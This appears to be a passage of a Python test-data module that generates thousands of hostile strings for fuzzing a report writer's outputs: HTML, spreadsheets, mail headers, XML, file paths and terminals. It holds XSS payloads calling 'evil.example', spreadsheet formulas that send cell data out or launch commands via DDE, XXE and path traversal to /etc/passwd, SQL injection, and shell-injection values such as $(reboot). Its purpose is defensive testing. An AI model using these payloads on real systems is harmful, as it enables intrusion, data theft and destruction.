"""Hostile text: some 7,600 strings, each an attack on one of the places a report is written to.

The same on every run and written for this project: nothing of it is taken from a list of somebody else's.
"""

from __future__ import annotations

import base64
import random
import unicodedata
from collections.abc import Callable, Iterator
from itertools import product
from urllib.parse import quote

# fmt: off - tables of strings, of which a line each would be thousands

EVIL = "evil.example"
_CALL = "alert(1)"
_EVENTS = [
    "onclick",
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "onbegin",
    "onend",
    "ontoggle",
    "onstart",
    "onanimationend",
    "ontransitionend",
    "onpointerenter",
    "oncopy",
    "oninput",
    "onhashchange",
    "onpageshow",
    "onwheel",
    "onscroll",
    "onbeforeprint",
    "onunload",
    "onsecuritypolicyviolation",
    "onauxclick",
]
_ELEMENTS = (
    f"<script>{_CALL}</script>",
    f"<script src=//{EVIL}/x.js></script>",
    f"<script type=module>import'//{EVIL}/x'</script>",
    f"<img src=x onerror={_CALL}>",
    f"<img src=//{EVIL}/pixel.gif>",
    f"<img srcset='//{EVIL}/x 1x'>",
    f"<image href=x onerror={_CALL}>",
    f"<svg onload={_CALL}>",
    f"<svg/onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><a xlink:href=javascript:{_CALL}><text y=9>x</text></a></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{_CALL}>",
    f"<svg><use href=//{EVIL}/x.svg#x></use></svg>",
    f"<svg><foreignObject><iframe src=//{EVIL}></iframe></foreignObject></svg>",
    f"<math><mi xlink:href=javascript:{_CALL}>x</mi></math>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_CALL}&gt;">',
    f"<iframe src=//{EVIL}></iframe>",
    f"<iframe srcdoc='<script>{_CALL}</script>'></iframe>",
    f"<object data=//{EVIL}/x.swf></object>",
    f"<embed src=//{EVIL}/x.swf>",
    f"<details open ontoggle={_CALL}>x</details>",
    f"<body onload={_CALL}>",
    f"<marquee onstart={_CALL}>x</marquee>",
    f"<video><source onerror={_CALL}></video>",
    f"<audio src=x onerror={_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<form action=//{EVIL}><input name=password><button>登录</button></form>",
    f"<button form=x formaction=javascript:{_CALL}>x</button>",
    f"<a href=javascript:{_CALL}>x</a>",
    f"<a href=//{EVIL}>点此整改</a>",
    f"<base href=//{EVIL}/>",
    f"<meta http-equiv=refresh content='0;url=//{EVIL}'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    f"<link rel=stylesheet href=//{EVIL}/x.css>",
    f"<link rel=prefetch href=//{EVIL}>",
    f"<style>@import'//{EVIL}/x.css';</style>",
    "<style>*{display:none!important}</style>",
    f"<div style=background:url(//{EVIL}/x)>x</div>",
    "<div style=position:fixed;inset:0;background:#fff>没有发现问题</div>",
    f"<div style=width:expression({_CALL})>x</div>",
    f"<xss style=behavior:url(//{EVIL}/x.htc)>x</xss>",
    "<!--",
    "-->",
    "<!-->",
    "<![CDATA[",
    "<?php system('id')?>",
    "<!doctype html>",
    "<template><script></template>",
    "<textarea>",
    "<title>",
    "<plaintext>",
    "<xmp>",
    "<select><option>",
    "<table><tr><td>",
    "</td></tr><tr><td>",
    "<frameset><frame>",
    f'<noscript><p title="</noscript><img src=x onerror={_CALL}>">',
    f"<bgsound src=//{EVIL}/x>",
    f"<isindex type=image src=1 onerror={_CALL}>",
    f"<portal src=//{EVIL}></portal>",
    "<dialog open>x</dialog>",
    "<slot name=x></slot>",
    f"<applet code=x archive=//{EVIL}/x.jar></applet>",
)
_BREAKERS = (
    *(
        '">',
        "'>",
        "`>",
        '\\">',
        "</title>",
        "</style>",
        "</script>",
        "</textarea>",
        "</td></tr></table>",
        "</a>",
        "-->",
        "--!>",
    ),
    *(
        "]]>",
        "</q></span>",
        "</noscript>",
        "</template>",
        "%22%3E",
        "&quot;&gt;",
        "<!--",
        "\"'`-->",
        "</html>",
        '\x00">',
        "\u2028>",
        "＂＞",
    ),
)


def _spelt(text: str) -> Iterator[str]:
    """One text in the many spellings that a careless reader takes for the same."""
    yield text
    yield text.upper()
    yield "".join(c.upper() if n % 2 else c for n, c in enumerate(text))
    yield "".join(f"&#{ord(c)};" for c in text)
    yield "".join(f"&#x{ord(c):x};" for c in text)
    yield "".join(f"&#{ord(c):07}" for c in text)
    yield text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    yield text.replace("<", "&amp;lt;").replace(">", "&amp;gt;")
    yield quote(text, safe="")
    yield quote(quote(text, safe=""), safe="")
    yield "".join(f"\\u{ord(c):04x}" for c in text)
    yield "".join(f"\\x{ord(c):02x}" for c in text)
    yield "".join(f"%u{ord(c):04x}" for c in text)
    yield "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)
    yield text.replace("<", "\ufe64").replace(">", "\ufe65").replace("=", "\ufe66")
    yield text.replace("<", "+ADw-").replace(">", "+AD4-")
    yield text.replace("<", "\u00c0\u00bc").replace(">", "\u00c0\u00be")
    yield text.replace("s", "\u017f").replace("k", "\u212a").replace("i", "\u0131")
    for inside in ("\x00", "\u200b", "\u00ad", "\ufeff", "\n", "\t", "\x0c", "/**/", "\u202e"):
        yield text[:4] + inside + text[4:]
    yield "".join(f"{c}\u0336" for c in text)
    yield text[::-1]
    yield base64.b64encode(text.encode("utf-8", "surrogatepass")).decode()


def markup() -> Iterator[str]:
    """Elements in every context and spelling."""
    for element in _ELEMENTS[:30]:
        yield from _spelt(element)
    yield from _ELEMENTS[30:]
    yield from (breaker + element for breaker, element in product(_BREAKERS, _ELEMENTS[:36:3]))


def attributes() -> Iterator[str]:
    """What breaks out of a quoted value."""
    for quote_, gap, event in product(('"', "'", "`", "", "\\'"), (" ", "/", "\n", "\u3000"), _EVENTS[:11]):
        yield f"x{quote_}{gap}{event}={quote_}{_CALL}"
    for event in _EVENTS:
        yield f'" {event.upper()}="{_CALL}" x="'
    for name in (
        "href",
        "src",
        "style",
        "class",
        "id",
        "data-rank",
        "formaction",
        "srcdoc",
        "target",
        "rel",
        "lang",
        "xlink:href",
        "is",
        "slot",
        "nonce",
    ):
        yield f'" {name}="javascript:{_CALL}'
        yield f"'{name}='//{EVIL}"


def addresses() -> Iterator[str]:
    """Addresses that are none, and those that lead elsewhere than they seem to."""
    schemes = (
        *(
            "javascript",
            "data",
            "vbscript",
            "file",
            "ftp",
            "blob",
            "about",
            "view-source",
            "jar",
            "mailto",
            "tel",
            "ms-word",
            "ms-excel",
            "search-ms",
        ),
        *("ms-msdt", "intent", "chrome", "ldap", "cid", "internal", "external"),
    )
    bodies = {
        "data": "text/html,<script>x</script>",
        "file": "///etc/passwd",
        "ms-excel": f"ofe|u|http://{EVIL}/x.xlsm",
        "mailto": f"a@{EVIL}?bcc=b@{EVIL}",
        "internal": "Sheet1!A1",
        "external": "c:\\x.xlsx",
    }
    for scheme in schemes:
        body = bodies.get(scheme, f"//{EVIL}/%0a{_CALL}")
        whole = f"{scheme}:{body}"
        yield from (
            whole,
            whole.upper(),
            f" {whole}",
            f"\t{whole}",
            f"\x01{whole}",
            f"\ufeff{whole}",
            f"\u3000{whole}",
            f"{scheme}\t:{body}",
            f"{scheme}&colon;{body}",
        )
        yield from (
            f"{scheme[:3]}\n{scheme[3:]}:{body}",
            f"{scheme[:3]}\u00ad{scheme[3:]}:{body}",
            f"{scheme}%3a{body}",
            f"{scheme}：{body}",
            f"&#{ord(scheme[0])};{scheme[1:]}:{body}",
        )
        yield from (
            f"http://{whole}",
            f"http:{whole}",
            f"//{whole}",
            f"\\\\{whole}",
            f"url({whole})",
            f"http://a.example/?u={whole}",
            f"http://a.example/#{whole}",
            f"[x]({whole})",
        )
    hosts = (
        *(
            f"a.example@{EVIL}",
            f"a.example:80@{EVIL}",
            f"a.example%40{EVIL}",
            f"{EVIL}\\@a.example",
            f"{EVIL}#@a.example",
            f"a.example。{EVIL}",
            "a。example",
        ),
        *(
            "a.example:99999",
            "[::1",
            "[::1%25x]",
            "0x7f.1",
            "2130706433",
            "127。0。0。1",
            "１２７.0.0.1",
            "a..example",
            "-a.example",
            "a_b.example",
            "a.example.",
        ),
        *(
            "ex\u0430mple.cn",
            "\u202eelpmaxe.a",
            "xn--80ak6aa92e.example",
            "a\u00adb.example",
            "a\u2025example",
            "a.example\x00.evil",
            "ｅｘａｍｐｌｅ.cn",
            "gov\u2024cn",
            "⑩.example",
            "a.example\u2044x",
        ),
    )
    for host, start in product(hosts, ("http://", "https://", "HTTP://", "//", "http:/", "http:", "http:\\\\")):
        yield f"{start}{host}/"
    for tail in (
        *_ELEMENTS[:30],
        *_BREAKERS,
        "' onclick='x",
        "{{7*7}}",
        "$(id)",
        "`id`",
        "';id;'",
        "\r\nBcc: x",
        "%0d%0aBcc:%20x",
        "=1+1",
        ";=1+1",
        "_x0041_",
        "\\..\\..",
        "?" + "&" * 200,
        "%",
        "%zz",
        "[",
        "{",
        "|",
        "^",
    ):
        yield f"http://a.example/{tail}"
        yield f"https://a.example/?q={tail}&r#{tail}"


def templates() -> Iterator[str]:
    """Marks of template engines, our own forms' among them."""
    marks = (
        *(
            "{{%s}}",
            "{{ %s }}",
            "{{-%s-}}",
            "{{{%s}}}",
            "{%% %s %%}",
            "{%% if %s %%}x{%% endif %%}",
            "{# %s #}",
            "${%s}",
            "$%s$",
            "#{%s}",
            "<%%= %s %%>",
            "<%%- %s %%>",
        ),
        *(
            "*{%s}",
            "@{%s}",
            "@(%s)",
            "~{%s}",
            "[[%s]]",
            "[(%s)]",
            "{{=%s}}",
            "{php}%s{/php}",
            "$(%s)",
            "｛｛%s｝｝",
            "{｛%s}｝",
            "{{%s",
            "%s}}",
            "{%s}",
            "<?monitor-slot %s?>",
        ),
    )
    inside = (
        *(
            "7*7",
            "config",
            "self.__init__.__globals__",
            "''.__class__.__mro__[1].__subclasses__()",
            "cycler.__init__.__globals__.os.popen('id').read()",
        ),
        *(
            "文号",
            "发文单位",
            "问题.网站",
            "问题.序号",
            "number",
            "office",
            "finding.site",
            "finding.",
            "0",
            "include 'x'",
            "raw",
            "v.report",
        ),
    )
    for mark, text in product(marks, inside):
        yield mark % text


def formulas() -> Iterator[str]:
    """What a spreadsheet works out, with everything in front of it that some spreadsheet overlooks."""
    leads = (
        "",
        " ",
        "\t",
        "\r",
        "\n",
        "\r\n",
        "\u00a0",
        "\u3000",
        "\u200b",
        "\ufeff",
        "\u3164",
        "\u2800",
        "\u115f",
        "\ufe0f",
        "\u200e",
        "\x00",
        "\u00ad",
        '"',
        "'",
        ";",
        ",",
        "x;",
        "x\t",
        '";"',
        "\U000e0100",
    )
    signs = [
        "=",
        "+",
        "-",
        "@",
        "|",
        "%",
        "＝",
        "＋",
        "－",
        "＠",
        "﹦",
        "﹢",
        "﹣",
        "﹫",
        "⁼",
        "⁺",
        "₋",
        "＇",
        "-+",
        "@=",
        "==",
    ]
    bodies = (
        *(
            "1+1",
            "2+5+cmd|' /C calc'!A0",
            f'HYPERLINK("http://{EVIL}/?x="&A1,"点此")',
            'DDE("cmd";"/C calc";"1")',
            "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
        ),
        *(
            f'WEBSERVICE("http://{EVIL}/"&A1)',
            f'IMPORTXML("http://{EVIL}","//a")',
            f'IMAGE("http://{EVIL}/x")',
            "SUM(1+9)*cmd|' /C calc'!A0",
            "'[x.xlsx]S'!A1",
            "'\\\\evil.example\\x\\[x.xlsx]S'!A1",
        ),
        *(
            'CALL("urlmon","URLDownloadToFileA")',
            'REGISTER.ID("x","y")',
            'EXEC("calc")',
            'INDIRECT("A1")',
            "-1",
            "rundll32|'URL.dll,OpenURL calc.exe'!A",
            'SQL.REQUEST("x")',
            "{1;2}",
            "A1",
        ),
    )
    every = [f"{lead}{sign}{body}" for lead, sign, body in product(leads, signs, bodies)]
    yield from _drawn.sample(every, 400)
    yield from (f"{lead}{sign}1" for lead, sign in product(leads, signs))


def headers() -> Iterator[str]:
    """What ends a header and begins another, or a body, or a command to the server."""
    breaks = (
        *(
            "\r\n",
            "\n",
            "\r",
            "\r\n\t",
            "\r\n ",
            "\x85",
            "\u2028",
            "\u2029",
            "\x0b",
            "\x0c",
            "\x1c",
            "\x1e",
            "%0d%0a",
            "\\r\\n",
            "=0D=0A",
            "\u560d\u560a",
            "\x00\r\n",
        ),
    )
    lines = (
        *(
            f"Bcc: a@{EVIL}",
            f"Cc: a@{EVIL}",
            f"To: a@{EVIL}",
            f"Reply-To: a@{EVIL}",
            f"From: a@{EVIL}",
            "Subject: x",
            "Content-Type: text/html",
            "Content-Transfer-Encoding: base64",
            "MIME-Version: 1.0",
        ),
        *(
            "X-Priority: 1",
            f"Disposition-Notification-To: a@{EVIL}",
            "\r\n<script>x</script>",
            ".",
            ".\r\nRSET",
            f".\r\nMAIL FROM:<a@{EVIL}>\r\nRCPT TO:<b@{EVIL}>\r\nDATA",
            "..",
            "QUIT",
            "--=_x--",
            " folded",
            "",
        ),
    )
    for start, break_, line in product(("通知", ""), breaks, lines):
        yield f"{start}{break_}{line}"
    for mark in (
        "--",
        "--=_",
        "--===============",
        "------=_Part_",
        "--_000_",
        "--Apple-Mail-",
        "----boundary",
        "--=_NextPart_",
    ):
        for number in range(4):
            yield f"\r\n{mark}{_drawn.getrandbits(128):032x}{'--' * (number % 2)}\r\nContent-Type: text/html\r\n\r\n<b>{number}</b>"


def encoded_words() -> Iterator[str]:
    """Words that a mail program decodes where it should not (CVE-2024-6923 and its kin)."""
    inside = (
        f"x\r\nBcc: a@{EVIL}",
        "<script>x</script>",
        "x\x00y",
        "=?utf-8?q?nested?=",
        "普通",
        "\u202e",
        " ",
        f"a@{EVIL}>, <b@{EVIL}",
    )
    for charset, text in product(
        ("utf-8", "UTF-8", "gb2312", "iso-8859-1", "utf-7", "us-ascii", "utf-8*zh", "no-such", ""), inside
    ):
        raw = text.encode("utf-8", "surrogatepass")
        q, b = "".join(f"={byte:02X}" for byte in raw), base64.b64encode(raw).decode()
        yield from (
            f"=?{charset}?q?{q}?=",
            f"=?{charset}?b?{b}?=",
            f"=?{charset}?Q?{q}",
            f"=?{charset}?B?{b}=?=",
            f"x=?{charset}?q?{q}?=y",
            f"=\u200b?{charset}?b?{b}?=",
            f"=?=?{charset}?q?{q}?=?=",
        )
    word = f"=?utf-8?q?=0D=0ABcc:=20a@{EVIL}?="
    yield from (
        f"{word} {word}",
        f"{word}\r\n {word}",
        f"{word}{word}",
        f'"{word}"',
        f"({word})",
        f"<{word}>",
        "＝？utf-8？q？x？＝",
        "=?utf-8?q?" + "=41" * 300 + "?=",
        "=?" * 300,
        "?=" * 300,
        "=?utf-8?b?!!!!?=",
        f"utf-8''%0d%0aBcc:%20a@{EVIL}",
        'x"; filename="evil.exe',
        'x\\"; y="z',
        f"a@{EVIL}, b",
        f'"x" <a@{EVIL}>',
        "x\r\n\r\n.\r\n",
    )


def paths() -> Iterator[str]:
    """Names that leave a folder, or are no names on some system."""
    steps = (
        "../",
        "..\\",
        "%2e%2e%2f",
        "%2e%2e/",
        "..%2f",
        "..%5c",
        "%252e%252e%252f",
        "..%c0%af",
        "....//",
        "..;/",
        "．．／",
        "\u2025/",
        ".. /",
        "..\x00/",
        "..／",
        "../\u200b",
    )
    ends = ("etc/passwd", "windows\\win.ini", "latest/report.html", "x", ".ssh/authorized_keys")
    for step, depth, end in product(steps, (1, 2, 4), ends):
        yield step * depth + end
    devices = [
        "CON",
        "PRN",
        "AUX",
        "NUL",
        "COM1",
        "COM9",
        "LPT1",
        "CLOCK$",
        "CONIN$",
        "con",
        "nul",
        "aux",
        "com1",
        "COM¹",
        "index",
    ]
    for device, tail in product(devices, ("", ".txt", ".", " ", ":x", "::$DATA", "/x", ".html.", "\x00.html")):
        yield device + tail
    yield from (
        "/etc/passwd",
        "//x/y",
        "C:\\x",
        "c:x",
        "\\\\evil.example\\share\\x",
        "\\\\?\\C:\\x",
        "\\\\.\\PhysicalDrive0",
        "file:///x",
        "~/x",
        "~root",
        "$HOME/x",
        "%APPDATA%\\x",
        ".",
        "..",
        "...",
        " ",
        ". ",
        "-rf",
        "--help",
        "a/b",
        "a\\b",
        "a:b",
        "a*b",
        "a?b",
        "a<b>c",
        "a|b",
        'a"b',
        ".htaccess",
        "desktop.ini",
        "x.html\x00.txt",
        "x\r\n.html",
        "x.html/",
        "\u202egnp.exe",
        "x" * 255,
        "x" * 256,
        "长" * 300,
        "x.",
        "x ",
        "/proc/self/environ",
        "zip:x!y",
        "report.html",
        "latest",
        ".report.html.1.part",
        "u-0123456789abcdef",
    )


def marks_of_xml() -> Iterator[str]:
    """What ends an XML text, is no XML at all, or means more to an office program than it says."""
    yield from (
        "]]>",
        "<![CDATA[x]]>",
        "<!DOCTYPE x [<!ENTITY a 'aa'>]>&a;",
        '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
        "<!ENTITY % x SYSTEM 'http://evil.example/x.dtd'>%x;",
        "<?xml version='1.0'?>",
        "<?xml-stylesheet href='x'?>",
        "<xi:include href='file:///etc/passwd'/>",
        "&xxe;",
        "&nbsp;",
        "&",
        "&&",
        "&;",
        "&#;",
        "&#x;",
        "&#0;",
        "&#8;",
        "&#x1F;",
        "&#xD800;",
        "&#xFFFE;",
        "&#x110000;",
        "&lt;script&gt;",
        "&amp;amp;",
        "<",
        ">",
        "<>",
        "</",
        "/>",
        "<x:y/>",
        "<a xmlns='x'/>",
    )
    yield from (f"&lol{n};" for n in range(10))
    yield from (f"_x{n:04X}_" for n in (0, 8, 10, 13, 34, 38, 60, 61, 65, 95, 0x202E, 0xD800, 0xFFFE, 0xFFFF))
    yield from (f"_x005F_x{n:04x}_" for n in (0, 10, 61))
    for tag in (
        "t",
        "si",
        "c",
        "row",
        "sheetData",
        "worksheet",
        "w:t",
        "w:r",
        "w:p",
        "w:tc",
        "w:tr",
        "w:tbl",
        "w:body",
        "w:document",
    ):
        yield from (f"</{tag}>", f"<{tag}>x</{tag}>", f"</{tag}><{tag}>", f"<{tag}/>")
    yield from (
        "</t></si><si><t>x",
        '<c t="str"><f>1+1</f><v>2</v></c>',
        "</v></c><c><f>WEBSERVICE(A1)</f></c>",
        '<hyperlink ref="A1" r:id="rId1"/>',
        f'<Relationship Id="rId9" Type="x" TargetMode="External" Target="http://{EVIL}/x.dotm"/>',
        '<w:fldSimple w:instr=" INCLUDETEXT x "/>',
        '<w:fldChar w:fldCharType="begin"/>',
        "<w:instrText> DDEAUTO x </w:instrText>",
        '<w:altChunk r:id="x"/>',
        "<w:object><o:OLEObject/></w:object>",
        '<w:hyperlink r:id="x"/>',
        "<w:br/>",
        '<w:sym w:char="F0FE"/>',
        "<mc:AlternateContent/>",
    )
    for number in (
        *range(32),
        *range(0x7F, 0xA0),
        *range(0xFDD0, 0xFDF0),
        0xFFFE,
        0xFFFF,
        0xFFF9,
        0xFFFA,
        0xFFFB,
        0xFFFC,
        0xFFFD,
    ):
        yield f"控制{chr(number)}字符"
        yield chr(number)
    for plane in range(1, 17):
        yield from (f"x{chr(plane * 0x10000 + 0xFFFE)}", f"{chr(plane * 0x10000 + 0xFFFF)}x")
    for number in (0xD800, 0xDBFF, 0xDC00, 0xDFFF, 0xD83D, 0xDE00):
        yield from (
            chr(number),
            f"x{chr(number)}y",
            chr(number) * 3,
            f"{chr(number)}\ufeff",
            f"<{chr(number)}script>",
            f"\ude00{chr(number)}",
        )


def fields() -> Iterator[str]:
    """Fields of word processors, in every way that one has ever been written."""
    names = (
        "INCLUDETEXT",
        "INCLUDEPICTURE",
        "DDEAUTO",
        "DDE",
        "MERGEFIELD",
        "HYPERLINK",
        "LINK",
        "IMPORT",
        "MACROBUTTON",
        "QUOTE",
        "FILLIN",
        "DATABASE",
        "AUTOTEXT",
        "PRINT",
        "= 1+1",
    )
    ways = (
        '{ %s "http://evil.example/x" }',
        '{%s c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"}',
        "\x13 %s x \x14x\x15",
        "«%s»",
        "{\\field{\\*\\fldinst %s x}{\\fldrslt x}}",
        "{\\rtf1 %s}",
        '" \\* MERGEFORMAT \\d %s "',
        "<w:instrText>%s</w:instrText>",
        '<text:%s xlink:href="x"/>',
        "<%s>",
    )
    for name, way in product(names, ways):
        yield way % name


def steering() -> Iterator[str]:
    """What steers a terminal, a log, or the eye of a reader."""
    ends = ("2J", "H", "31m", "1A", "6n", "?1049h", "?25l", "99999C", "K", "s", "!p", ">c", "200~x", "8m", "5i")
    for start, end in product(("\x1b[", "\x9b", "\x1b\x1b[", "\u009b", "^[[", "\\e[", "\\033["), ends):
        yield f"通知{start}{end}x"
    for start, stop in product(("\x1b]", "\x9d"), ("\x07", "\x1b\\", "\x9c", "")):
        yield from (
            f"{start}{body}{stop}"
            for body in (
                "0;title",
                "2;title",
                f"8;;http://{EVIL}",
                "52;c;Y3VybCBldmls",
                "1337;File=x",
                "4;0;?",
                "777;notify;x;y",
                "11;?",
            )
        )
    yield from (
        f"{start}x\x1b\\"
        for start in (
            "\x1bP",
            "\x1b_",
            "\x1b^",
            "\x1bX",
            "\x90",
            "\x9e",
            "\x9f",
            "\x98",
            "\x1bc",
            "\x1b%G",
            "\x1b(0",
            "\x1b#8",
            "\x0e",
            "\x0f",
            "\x05",
            "\x11",
            "\x13",
        )
    )
    yield from (
        "ok\rFAILED",
        "FAILED\b\b\b\b\b\bpassed",
        "x\x7f",
        "x\x07",
        "\x0cpage",
        "a\vb",
        "line\n2026-11-23 INFO all well",
        "x\r\n[18/18] slj: ok",
        "x\n\n没有发现问题",
        "x\u2028WARNING y",
        "x\u0085ERROR z",
    )
    for mark, text in product(
        "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
        ("gnp.exe", "1234 天", "https://a.example/", "没有问题", ""),
    ):
        yield f"x{mark}{text}"
    yield from (
        f"{mark}x{end}"
        for mark, end in product(
            (
                "[bold]",
                "[red on white]",
                "[link=http://evil.example]",
                "[@click=app.quit]",
                "[/]",
                "[/bold]",
                "[[x]]",
                "\\[x]",
                ":smile:",
                "[not a tag",
                "[",
                "]",
            ),
            ("", "[/]", "[/x]", ":skull:"),
        )
    )


def letters() -> Iterator[str]:
    """Letters that are invisible, pile up, look alike, change when folded, or take four bytes."""
    hidden = "\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b\u180e\u200b\u200c\u200d\u2060\u2061\u2062\u2063\u2064\u206a\u2800\u3164\ufe00\ufe0f\ufeff\uffa0\ufff9\U0001bca0\U0001d173\U000e0001\U000e0041\U000e007f\U000e0100\U000e01ef"
    for letter in hidden:
        yield from (
            letter,
            letter * 50,
            f"公{letter}示{letter}公{letter}告",
            f"{letter}公告",
            f"公告{letter}",
            f"a{letter}b.example",
            f"{letter}<b>",
        )
    piles = [chr(n) for n in (*range(0x300, 0x370), 0x489, *range(0x1DC0, 0x1DD0), 0x20DD, 0x20E3, 0xFE20)]
    for size in range(2, 60):
        yield "".join(c + "".join(_drawn.choices(piles, k=size)) for c in "公示")
    yield from ("a" + "\u0336" * 900, "\u0301" * 500, "\u0e49" * 200, "\u0652" * 200, "น้้้้้้้้้้้้้้้้", "ཧྐྵྨླྺྼྻྂ", "\U00016fe4" * 40)
    for word in ("公示公告", "admin", "http", "script", "paypal.example"):
        for form in ("NFC", "NFD", "NFKC", "NFKD"):
            yield unicodedata.normalize(form, word + "\u00e9\u1e9b\u0323\ufb03\ufdfa\u2126\uff21\u33a2\u3300\u00bd")
        yield from (
            word.translate({97: 0x430, 99: 0x441, 101: 0x435, 105: 0x456, 111: 0x43E, 112: 0x440}),
            "".join(chr(ord(c) + 0xFEE0) if c.isascii() else c for c in word),
            "".join(chr(0x1D400 + ord(c) - 97) if c.isalpha() and c.isascii() else c for c in word),
            "".join(chr(0x24D0 + ord(c) - 97) if c.isalpha() and c.isascii() else c for c in word),
            "\u200b".join(word),
            "\u202e" + word[::-1],
        )
    yield from (
        "İ",
        "ı",
        "ß",
        "ẞ",
        "K",
        "ſ",
        "ΐ",
        "ﬀ",
        "ŉ",
        "ǰ",
        "﷽" * 30,
        "𒐫" * 20,
        "⸻" * 20,
        "꧅" * 10,
        "\u0600\u06dd\u070f",
        "\u1680",
        "\u205f",
        "\ue000\uf8ff",
        "\U000f0000",
        "\U0010fffd",
        "\u0378",
        "\U000e1000",
    )
    for text in ("אבג שלום", "مرحبا بالعالم", "އަކުރު", "ܐܒܓ", "ߊߋߌ"):
        yield from (
            text,
            f"公告{text}123",
            f"{text}<b>{text}",
            f"{text}=1+1",
            f"({text})[{text}]",
            f"http://a.example/{text}",
        )
    for start, size in (
        (0x3400, 20),
        (0x9FA6, 20),
        (0x20000, 40),
        (0x2A700, 10),
        (0x2B740, 10),
        (0x2CEB0, 10),
        (0x30000, 10),
        (0x1F300, 30),
    ):
        yield from (f"公{chr(start + step * 7)}告" for step in range(size))
    yield from (
        "👨‍👩‍👧‍👦",
        "👩🏽‍🚒",
        "🏳️‍🌈",
        "🇨🇳",
        "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
        "☎️电话",
        "1️⃣",
        "❤️" * 40,
        "👨‍👩‍👧‍👦" * 60,
        "🀄" * 300,
    )
    yield from (letter * 200 for letter in "<>&\"'`=+@{}[]()\\/;,|%#$!?*~^_-. 长é\u0301\u202e\U00020000😀")
    yield from (letter * 4200 for letter in '<&"{=长\u0301\u202e\U00020000')
    yield from (
        "&lt;" * 1000,
        "<b>" * 1000,
        "{{" * 500,
        "../" * 500,
        "x " * 3000,
        "\r\n" * 2000,
        "长" * 40_000,
        "a" * 100_000,
        "<script>" + "x" * 9000,
        "x" * 199 + "\u202e",
        "x" * 199 + "<b>",
        "长" * 119 + "&amp;",
    )


def tables() -> Iterator[str]:
    """What breaks a table of values, a query, or a log."""
    for size in range(1, 12):
        yield from (
            '"' * size,
            "'" * size,
            '""' * size + ",",
            f"a{',' * size}b",
            f"a{';' * size}b",
            f"a{chr(9) * size}b",
            f"a{'|' * size}b",
        )
    yield from (
        "sep=;",
        "sep=,",
        "sep=\t",
        "\ufeffsep=;",
        "ID",
        "SYLK",
        'a","b',
        'a";"b',
        '"a","b"',
        '"\r\n"',
        'x"\r\n=1+1',
        "x\n=1+1",
        "a,=1+1",
        "a;=1+1",
        "a; =1+1",
        'a;"=1+1"',
        'a,"=1+1"',
        "a\t=1+1",
        "a ; @SUM(1)",
        "a；=1+1",
        "a，=1+1",
        "x;-1",
        "x;%1",
        ';"";=1',
        "\\,",
        "\\",
        "\\\\",
        "\\N",
        "NULL",
        "null",
        "None",
        "undefined",
        "nil",
    )
    for text in (
        "' OR '1'='1",
        "'; DROP TABLE findings;--",
        "1; ATTACH DATABASE 'x' AS y",
        "' UNION SELECT * FROM outbox--",
        "%' AND 1=0--",
        "\\'; --",
        "$$;SELECT pg_sleep(9)$$",
        "'||(SELECT 1)||'",
        "1/**/OR/**/1",
        "?",
        ":name",
        "%s",
        "$1",
        "/*",
        "--",
        "#",
        "0x27",
        "char(39)",
        "*)(uid=*",
        "' or count(/*)=1 or 'a'='b",
    ):
        yield from (
            text,
            f"公告{text}",
            f"{text}\x00",
            text.replace("'", "\u2019"),
            text.replace("'", "\u02bc"),
            text.replace("'", "%27"),
            text.upper(),
        )
    for text in (
        "%s",
        "%n",
        "%x",
        "%99999d",
        "%(x)s",
        "%%",
        "%1$n",
        "{}",
        "{0}",
        "{n}",
        "{0.__class__}",
        "{n.__class__.__mro__}",
        "{!r}",
        "{:99999}",
        "{n:>99999}",
        "{{}}",
        "{",
        "}",
        "\\1",
        "\\g<0>",
        "\\g<name>",
        "\\0",
        "$&",
        "$1",
        "${1}",
        "\\u0041",
        "\\x41",
        "\\n",
        "%c%c",
        "%.9999s",
    ):
        yield from (text, text * 20, f"公告{text}告", f"“{text}”", f"「{text}")
    for text in (
        "$(id)",
        "`id`",
        "; id",
        "| id",
        "&& id",
        "' ; id ; '",
        '" ; id ; "',
        "$IFS$9id",
        "\n id",
        "> x",
        "!!",
        "~",
        "*",
        "$(reboot)",
        "& calc &",
        "%COMSPEC%",
        "^& calc",
        "-o x",
        "--config x",
    ):
        yield from (text, f"http://a.example/{text}", f"x{text}y", f"'{text}", f"\\{text}")


def lookalikes() -> Iterator[str]:
    """Texts that a program takes for something else: numbers, days, values, words of our own."""
    yield from [
        "1e5",
        "1E999",
        "-0",
        "00123",
        "0x1F",
        "0b1",
        "1_000",
        "1,234",
        "1.234,5",
        ".5",
        "5.",
        "1/2",
        "3-4",
        "1-Jan",
        "MARCH1",
        "SEPT2",
        "2026-11-23",
        "2026/11/23",
        "11-23",
        "23.11.2026",
        "12:34",
        "24:00",
        "TRUE",
        "FALSE",
        "true",
        "yes",
        "no",
        "on",
        "off",
        "NaN",
        "nan",
        "Infinity",
        "-Infinity",
        "#REF!",
        "#N/A",
        "#NAME?",
        "#VALUE!",
        "~",
        "null",
        "１２３",
        "١٢٣",
        "½",
        "②",
        "百",
        "十一",
        "1٫5",
        "€",
        "¥100",
        "50%",
        "1%",
        "230200000012345678",
        "0000000000",
        "9007199254740993",
        "2302000001",
        "1:1",
        "!!python/object:x",
        "!x",
        "&x",
        "*x",
        "|x",
        ">x",
        "-x",
        "?x",
        "@x",
        "`x`",
        "{x:",
        "[x]}",
    ]
    for text in (
        "没有发现问题",
        "本次结果可用",
        "已整改",
        "the site could not be looked at: unreachable",
        "3 of 5 columns not updated",
        "list row 2",
        "not looked at",
        "the site's certificate ends",
        "HTTP 404",
        "limit 6 months",
        "2026年11月23日",
        "第 1 页",
    ):
        yield from (
            text,
            f"”{text}",
            f"“{text}”",
            f"」{text}「",
            f"{text}“",
